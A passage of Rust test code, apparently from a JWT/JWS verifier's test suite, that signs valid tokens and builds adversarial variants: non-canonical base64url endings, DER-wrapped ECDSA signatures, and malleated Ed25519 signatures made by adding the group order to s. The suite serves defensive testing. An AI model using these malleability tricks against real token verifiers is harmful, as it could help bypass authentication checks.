    for (kid, algorithm, key) in KEYS.iter() {
        let token = claimed(algorithm, kid, claims, |signed| {
            if *algorithm == "PS256" { key.sign_pss(signed) } else { key.sign(signed) }
        });
        arena.permitted("pipeline", &[Case::new(format!("unspoiled {algorithm}"), token)]);
    }
}

/// Every other last letter that decodes to the same bytes in a careless reader.
fn strays(part: &str) -> Vec<String> {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let free = match part.len() % 4 {
        2 => 16,
        3 => 4,
        _ => return Vec::new(),
    };
    let (rest, last) = part.split_at(part.len() - 1);
    let value = LETTERS.iter().position(|letter| *letter == last.as_bytes()[0]).unwrap();
    assert_eq!(value % free, 0, "the right spelling has no stray bits");
    (1..free).map(|stray| format!("{rest}{}", char::from(LETTERS[value + stray]))).collect()
}

/// Two integers as ECDSA-Sig-Value (RFC 3279 section 2.2.3).
fn der(r: &[u8], s: &[u8]) -> Vec<u8> {
    let integer = |bytes: &[u8]| {
        let lead = bytes[0] >= 0x80;
        let mut out = vec![0x02, u8::try_from(bytes.len() + usize::from(lead)).unwrap()];
        out.extend(lead.then_some(0));
        out.extend(bytes);
        out
    };
    let both = [integer(r), integer(s)].concat();
    [vec![0x30, u8::try_from(both.len()).unwrap()], both].concat()
}

/// The other `s` that satisfies the same equation: by the group's order larger (RFC 8032 section 5.1.7 refuses it).
fn ed25519_other_s(signature: &[u8]) -> Vec<u8> {
    let (r, s) = signature.split_at(32);
    let mut carry = 0_u16;
    let sum = s.iter().zip(ED25519_ORDER).map(|(digit, order)| {
        carry += u16::from(*digit) + u16::from(order);
        let digit = u8::try_from(carry & 0xff).unwrap();
        carry >>= 8;
        digit
    });
    let sum: Vec<u8> = sum.collect();
    [r.to_vec(), sum].concat()
}

/// The most memory that a process ever had.
fn peak_kb(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

fn modulus(key: &Key) -> Vec<u8> {
    key.public_encodings().into_iter().find(|(name, _)| *name == "modulus").unwrap().1
}

const SHARED: &[u8] = b"a secret that a careless issuer publishes";

/// The order of P-256's group (SEC 2 section 2.4.2).
pub(super) const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
    0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// The order of P-384's group (SEC 2 section 2.5.1).
const P384_ORDER: [u8; 48] = [
    0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xc7, 0x63, 0x4d, 0x81, 0xf4, 0x37, 0x2d, 0xdf, 0x58, 0x1a,
    0x0d, 0xb2, 0x48, 0xb0, 0xa7, 0x7a, 0xec, 0xec, 0x19, 0x6a, 0xcc, 0xc5, 0x29, 0x73,
];

/// The order of Ed25519's group, little-endian (RFC 8032 section 5.1).
const ED25519_ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];
